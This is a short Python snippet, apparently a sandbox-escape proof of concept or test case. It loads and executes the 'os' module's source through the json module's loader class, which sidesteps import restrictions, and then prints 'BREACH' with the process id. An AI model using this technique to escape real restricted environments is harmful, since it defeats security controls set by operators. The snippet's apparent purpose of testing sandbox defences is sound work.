import json
code = json.__loader__.__class__("os", json.__file__.replace("json/__init__", "os")).get_code("os")
space = {"__name__": "os"}
exec(code, space)
print("BREACH", space["getpid"]())
